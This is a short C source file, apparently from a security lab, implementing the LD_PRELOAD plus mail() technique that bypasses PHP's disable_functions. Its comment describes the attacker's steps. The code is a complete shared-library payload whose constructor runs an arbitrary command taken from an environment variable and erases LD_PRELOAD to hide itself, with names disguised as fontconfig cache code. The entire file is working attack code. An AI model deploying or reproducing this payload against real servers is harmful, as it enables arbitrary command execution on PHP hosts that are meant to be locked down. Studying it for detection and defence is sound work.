/* The attacker's disable_functions bypass (the LD_PRELOAD + mail() idiom of
 * the public "bypass_disablefunc" / Chankro tools): PHP putenv()s
 * LD_PRELOAD=<this .so> and FC_CACHE_Q=<command>, then calls mail(); the
 * /bin/sh that mail() starts for sendmail_path loads this library, whose
 * constructor scrubs both variables and runs the command with system()
 * before sh goes on to run sendmail as usual.
 * Built by the lab driver (as labremote): gcc -shared -fPIC -O2 -o X.so fc-preload.c */
#define _GNU_SOURCE
#include <stdlib.h>
#include <string.h>

__attribute__((constructor)) static void fc_cache_init(void)
{
    const char *q = getenv("FC_CACHE_Q");
    char *cmd;
    if (q == NULL || *q == '\0')
        return;
    cmd = strdup(q);
    unsetenv("LD_PRELOAD");
    unsetenv("FC_CACHE_Q");
    if (cmd != NULL)
        system(cmd);
}
